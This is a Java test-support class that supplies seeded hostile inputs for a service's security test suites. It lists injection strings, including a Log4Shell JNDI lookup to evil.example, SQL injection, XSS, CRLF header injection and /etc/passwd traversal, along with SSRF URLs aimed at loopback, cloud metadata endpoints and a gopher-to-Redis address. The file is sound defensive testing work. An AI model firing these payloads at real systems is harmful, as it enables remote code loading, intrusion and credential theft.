package dev.daybook.shared.testing;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.UUID;

/**
 * The raw material of the hostile-input suites: values an attacker, a fuzzer or a broken client sends, picked
 * by a seeded {@link Random} so a failing run reproduces from its printed seed.
 */
public final class Hostile {

    public static final List<String> METHODS = List.of("GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD",
            "TRACE", "PROPFIND", "FOO", "CONNECT-ME");

    public static final List<String> STRINGS = List.of("", " ", "\u0000", "\u0000high", "high\u0000", "HIGH\r\nX-Injected: 1",
            "a".repeat(5000), "ü".repeat(300), "😀", "\uFEFFen", "en-\u202Egb", "../../etc/passwd", "%00", "%2e%2e%2f",
            "${jndi:ldap://evil.example/a}", "{{7*7}}", "<script>alert(1)</script>", "' OR 1=1 --", "null", "true",
            "-1", "0", "1e309", "NaN", "9".repeat(40), "\\", "\"", "\t\n", "en_US.UTF-8", "x-klingon-tlh-piqaD-aaaaaaaaaaaaaa");

    /** URLs an {@code audio_url} or {@code callback_url} must never reach or be read as. */
    public static final List<String> SSRF_URLS = List.of("https://127.0.0.1/a.wav", "https://[::1]/a.wav",
            "https://[::127.0.0.1]/a.wav", "https://[::7f00:1]/a.wav", "https://[::ffff:127.0.0.1]/a.wav",
            "https://[::ffff:7f00:1]/a.wav", "https://0177.0.0.1/a.wav", "https://0x7f.0.0.1/a.wav",
            "https://2130706433/a.wav", "https://017700000001/a.wav", "https://127.1/a.wav", "https://0/a.wav",
            "https://169.254.169.254/latest/meta-data/", "https://[fd00:ec2::254]/", "https://metadata.google.internal/",
            "https://localhost:8080/v1/admin/queues", "https://10.0.0.1/a.wav", "https://192.168.0.1/a.wav",
            "https://[fe80::1%25eth0]/a.wav", "http://example.com/a.wav", "file:///etc/passwd", "gopher://127.0.0.1:6379/_INFO",
            "gs://../a.wav", "gs://bucket", "https://user:pw@example.com/a.wav", "https://example.com:99999/a.wav",
            "https://example.com:0/a.wav", "https://example.com/" + "a".repeat(100_000), "https://exa mple.com/",
            "https://例え.テスト/a.wav", "https://example.com\u0000.evil/a.wav", "//example.com/a.wav", "https:", "");

    /** Strings that are not service-made job ids, each aimed at some way of addressing what lies behind one. */
    public static List<String> ids(String realId) {
        return List.of(realId + ":errors", realId + ":errors:x", realId.toUpperCase(), realId + " ", " " + realId,
                realId + "%00", realId + "%0d%0aX-Injected:%201", "..%2f" + realId, "%2e%2e", realId.substring(1),
                realId + "0", "*", "%2A", "'", "%22", "0", "-1", "a".repeat(3000), "%F0%9F%98%80", "%C0%AE%C0%AE",
                "%ff", "job:" + realId, "{daybook}:job:" + realId, realId.replace('-', '_'), realId + ";jsessionid=1",
                UUID.randomUUID().toString());
    }

    private Hostile() {
    }

    public static <T> T pick(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** {@code bytes} cut at a random point (possibly to nothing) and with up to 16 bytes flipped at random. */
    public static byte[] mangle(Random random, byte[] bytes) {
        int length = random.nextInt(4) == 0 ? bytes.length : random.nextInt(bytes.length + 1);
        byte[] out = java.util.Arrays.copyOf(bytes, length);
        int flips = out.length == 0 ? 0 : random.nextInt(17);
        for (int i = 0; i < flips; i++) {
            int at = random.nextInt(Math.min(out.length, random.nextBoolean() ? 512 : out.length));
            out[at] = (byte) random.nextInt(256);
        }
        return out;
    }

    public static byte[] randomBytes(Random random, int max) {
        byte[] b = new byte[random.nextInt(max + 1)];
        random.nextBytes(b);
        return b;
    }

    public static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    /** The seed for a suite: {@code -Ddaybook.hostile.seed=N} to replay a run, else a fresh one. */
    public static long seed() {
        String given = System.getProperty("daybook.hostile.seed");
        return given == null || given.isBlank() ? new Random().nextLong() : Long.parseLong(given);
    }
}
